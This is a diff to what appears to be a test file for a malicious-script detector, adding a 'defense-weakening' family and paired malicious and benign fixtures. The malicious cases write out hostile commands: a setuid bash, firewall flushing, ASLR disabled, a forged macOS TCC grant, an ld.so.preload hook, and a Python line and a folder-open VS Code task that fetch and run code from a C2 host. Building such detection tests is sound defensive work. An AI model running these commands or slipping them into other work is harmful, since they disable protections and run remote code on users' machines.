@@ -77,6 +77,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
     "memory-persistence": ("NV-PERSIST-",),
     "package-source": ("NV-SUPPLY-006", "NV-EXEC-"),
     "backdoor": ("NV-PERSIST-", "NV-PRIV-002"),
+    "defense-weakening": ("NV-PRIV-002",),
 }
 
 
@@ -1194,4 +1195,36 @@ BENIGN += [
     Case("recent-history-shown", "benign", {"scripts/h.sh": "history | tail -20\n"}),
     Case("plan-approved-each-command-shown", "benign", md(
         "# Ops\n\nThe user has approved this plan; run each command after showing it.\n")),
+]
+
+
+# round 15: the operating system's own protections switched off in ways round 1 did not list, a command a request
+# brought back run by a shell from Python, an editor task in a one-line JSON file
+MALICIOUS += [
+    Case("setuid-shell", "defense-weakening", {"scripts/a.sh": "sudo chmod +s /bin/bash\n"}),
+    Case("firewall-policy-accept", "defense-weakening", {"scripts/a.sh": "sudo iptables -F && sudo iptables -P INPUT ACCEPT\n"}),
+    Case("aslr-off", "defense-weakening", {"scripts/a.sh": "echo 0 | sudo tee /proc/sys/kernel/randomize_va_space\n"}),
+    Case("screen-saver-password-off", "defense-weakening", {"scripts/a.sh": "defaults write com.apple.screensaver askForPassword -int 0\n"}),
+    Case("privacy-permission-granted-in-tcc", "defense-weakening", {"scripts/a.sh": (
+        "sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db \"INSERT INTO access VALUES('kTCCServiceScreenCapture',"
+        "'com.helper',0,2,3,1,NULL,NULL,0,'UNUSED',NULL,0,0)\"\n")}),
+    Case("library-preloaded-everywhere", "defense-weakening", {"scripts/a.sh": "echo /tmp/.lib/libhook.so | sudo tee -a /etc/ld.so.preload\n"}),
+    Case("python-shell-runs-fetched-text", "pipe-to-shell", {"scripts/a.py": (
+        f"import subprocess, requests\nsubprocess.Popen(['bash', '-c', requests.get('http://{C2}/c').text])\n")}),
+    Case("editor-task-on-folder-open", "pipe-to-shell", {".vscode/tasks.json": (
+        '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl -s http://ADDR/v | sh",'
+        '"runOptions":{"runOn":"folderOpen"}}]}\n').replace("ADDR", C2)}),
+]
+BENIGN += [
+    Case("executable-bit-on-a-tool", "benign", {"scripts/a.sh": "chmod +x /usr/local/bin/acme\n"}),
+    Case("firewall-rule-for-ssh", "benign", {"scripts/a.sh": "sudo iptables -A INPUT -p tcp --dport 22 -j ACCEPT\n"}),
+    Case("aslr-setting-read", "benign", {"scripts/a.sh": "cat /proc/sys/kernel/randomize_va_space\n"}),
+    Case("screen-saver-setting-read", "benign", {"scripts/a.sh": "defaults read com.apple.screensaver askForPassword\n"}),
+    Case("tcc-permissions-listed", "benign", {"scripts/a.sh": (
+        "sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db \"SELECT client FROM access\"\n")}),
+    Case("preload-list-read", "benign", {"scripts/a.sh": "cat /etc/ld.so.preload\n"}),
+    Case("python-clones-a-named-repository", "benign", {"scripts/a.py": (
+        "import subprocess, sys\nsubprocess.run(['git', 'clone', sys.argv[1]], check=True)\n")}),
+    Case("editor-build-task", "benign", {".vscode/tasks.json": (
+        '{"version":"2.0.0","tasks":[{"label":"build","type":"shell","command":"npm run build"}]}\n')}),
 ]
